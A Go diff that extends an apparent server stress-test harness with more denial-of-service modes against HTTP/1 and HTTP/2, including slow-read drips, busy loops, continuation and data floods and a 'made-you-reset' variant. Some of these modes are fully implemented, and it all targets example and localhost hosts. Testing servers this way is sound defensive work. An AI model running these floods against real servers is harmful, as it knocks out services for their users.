@@ -3,16 +3,22 @@ package attack
 import (
 	"context"
 	"crypto/tls"
+	"errors"
 	"io"
 	"net"
 	"strings"
 	"sync"
 	"sync/atomic"
 	"time"
+
+	"golang.org/x/net/http2/hpack"
 )
 
 // host is what all servers under attack are called.
 const host = "oidc.example.com"
+
+// nickname is another name of theirs, for attackers that go where a name leads.
+const nickname = "localhost"
 
 // path is a document that they serve.
 const path = "/prod-a/keys.json"
@@ -20,39 +26,51 @@ const path = "/prod-a/keys.json"
 // modes are the attacks. Each one works on a connection of its own until ctx is done or the connection fails; then it
 // gets a new one.
 var modes = map[string]func(ctx context.Context, address string) error{
-	"tcp-idle":           silent,
-	"h1-idle":            http1Idle,
-	"h1-slow-header":     http1SlowHeader,
-	"h1-header-bomb":     http1HeaderBomb(16 << 10),
-	"h1-small-bomb":      http1HeaderBomb(5 << 10), // below what counts as bulky, so that every connection may send one
-	"h1-pipeline":        http1Pipeline,
-	"h1-stall":           http1Stall,
-	"h1-slow-body":       http1SlowBody,
-	"h2-idle":            http2Idle,
-	"h2-load":            http2Load,
-	"h2-cookie-crumbs":   http2CookieCrumbs,
-	"h2-unread-refusals": http2Unread,
-	"h2-window-drip":     http2WindowDrip,
-	"h2-stall":           http2Stall,
-	"h2-rapid-reset":     http2RapidReset,
-	"h2-hpack-bomb":      http2HPACKBomb,
-	"h2-settings-flood":  http2Flood(frame(frameSettings, 0, 0, nil)),
-	"h2-ping-flood":      http2Flood(frame(framePing, 0, 0, make([]byte, 8))),
-	"h2-priority-flood":  http2Flood(frame(framePriority, 0, 1, []byte{0, 0, 0, 0, 1})),
-	"h2-unknown-flood":   http2Flood(frame(0xbb, 0, 0, nil)),
-	"h2-window-flood":    http2Flood(frame(frameWindowUpdate, 0, 0, []byte{0, 0, 0, 1})),
-	"tls-handshakes":     handshakes,
+	"tcp-idle":              silent,
+	"h1-idle":               http1Idle,
+	"h1-busy":               http1Busy,
+	"h1-slow-header":        http1SlowHeader,
+	"h1-header-bomb":        http1HeaderBomb(16 << 10),
+	"h1-small-bomb":         http1HeaderBomb(5 << 10), // below what counts as bulky, so that every connection may send one
+	"h1-pipeline":           http1Pipeline,
+	"h1-stall":              http1Stall,
+	"h1-slow-body":          http1SlowBody,
+	"h1-drip":               http1Drip,
+	"h2-idle":               http2Idle,
+	"h2-load":               http2Load,
+	"h2-cookie-crumbs":      http2CookieCrumbs,
+	"h2-unread-refusals":    http2Unread,
+	"h2-window-drip":        http2WindowDrip,
+	"h2-own-400":            http2OwnAnswers(hpack.HeaderField{Name: "te", Value: "x"}, 1),
+	"h2-own-431":            http2OwnAnswers(hpack.HeaderField{Name: "x", Value: strings.Repeat("&", 3900)}, 5),
+	"h2-stall":              http2Stall,
+	"h2-long-paths":         http2LongPaths,
+	"h2-hang-up":            http2HangUp,
+	"h2-drip":               http2Drip,
+	"h2-rapid-reset":        http2RapidReset,
+	"h2-made-you-reset":     http2MadeYouReset,
+	"h2-hpack-bomb":         http2HPACKBomb,
+	"h2-settings-flood":     http2Flood(frame(frameSettings, 0, 0, nil)),
+	"h2-ping-flood":         http2Flood(frame(framePing, 0, 0, make([]byte, 8))),
+	"h2-priority-flood":     http2Flood(frame(framePriority, 0, 1, []byte{0, 0, 0, 0, 1})),
+	"h2-unknown-flood":      http2Flood(frame(0xbb, 0, 0, nil)),
+	"h2-window-flood":       http2Flood(frame(frameWindowUpdate, 0, 0, []byte{0, 0, 0, 1})),
+	"h2-data-flood":         http2DataFlood,
+	"h2-continuation-flood": http2ContinuationFlood,
+	"tls-handshakes":        handshakes,
 }
 
-// attack runs a mode on n connections until ctx is done and returns how many it has opened.
+// attack runs a mode on n connections until ctx is done and returns how many the server, or its kernel, has accepted.
 func attack(ctx context.Context, mode, address string, n int) int64 {
 	var opened atomic.Int64
 	var all sync.WaitGroup
 	for range n {
 		all.Go(func() {
 			for ctx.Err() == nil {
-				opened.Add(1)
-				_ = modes[mode](ctx, address) // the server may do what it wants
+				err := modes[mode](ctx, address) // the server may do what it wants
+				if refused := (*net.OpError)(nil); !errors.As(err, &refused) || refused.Op != "dial" {
+					opened.Add(1)
+				}
 				select {
 				case <-ctx.Done():
 				case <-time.After(20 * time.Millisecond):
@@ -102,9 +120,12 @@ func silent(ctx context.Context, address string) error {
 }
 
 func handshakes(ctx context.Context, address string) error {
-	for {
+	for n := 0; ; n++ {
 		c, err := dialTLS(ctx, address, "http/1.1")
-		if err != nil {
+		switch {
+		case err != nil && n > 0:
+			return nil // it has attacked
+		case err != nil:
 			return err
 		}
 		_ = c.Close()
@@ -120,6 +141,22 @@ func http1(ctx context.Context, address string, do func(c net.Conn) error) error
 	}
 	defer c.Close()
 	return do(c)
+}
+
+// http1Busy asks for next to nothing, and so often that its connection is never idle for long.
+func http1Busy(ctx context.Context, address string) error {
+	return http1(ctx, address, func(c net.Conn) error {
+		answer := make([]byte, 4096)
+		for {
+			if _, err := io.WriteString(c, "HEAD / HTTP/1.1\r\nHost: a\r\n\r\n"); err != nil {
+				return err
+			}
+			if _, err := c.Read(answer); err != nil {
+				return err
+			}
+			time.Sleep(200 * time.Millisecond)
+		}
+	})
 }
 
 func http1Idle(ctx context.Context, address string) error {
@@ -182,6 +219,35 @@ func http1Stall(ctx context.Context, address string) error {
 		batch := []byte(strings.Repeat(get, 100))
 		for { // it ends when the server resets the connection; until then the second batch or so blocks
 			if _, err := c.Write(batch); err != nil {
+				return err
+			}
+		}
+	})
+}
+
+// http1Drip always has requests outstanding, whose answers it takes at 2 KiB/s.
+func http1Drip(ctx context.Context, address string) error {
+	return http1(ctx, address, func(c net.Conn) error {
+		if err := c.(*tls.Conn).NetConn().(*net.TCPConn).SetReadBuffer(4 << 10); err != nil {
+			return err
+		}
+		ended := make(chan struct{})
+		defer func() { _ = c.Close(); <-ended }()
+		go func() {
+			defer close(ended)
+			for { // it blocks for as long as the answers are not taken
+				if _, err := io.WriteString(c, strings.Repeat(get, 100)); err != nil {
+					return
+				}
+			}
+		}()
+		for {
+			select {
+			case <-ctx.Done():
+				return ctx.Err()
+			case <-time.After(500 * time.Millisecond):
+			}
+			if _, err := io.CopyN(io.Discard, c, 1<<10); err != nil {
 				return err
 			}
 		}
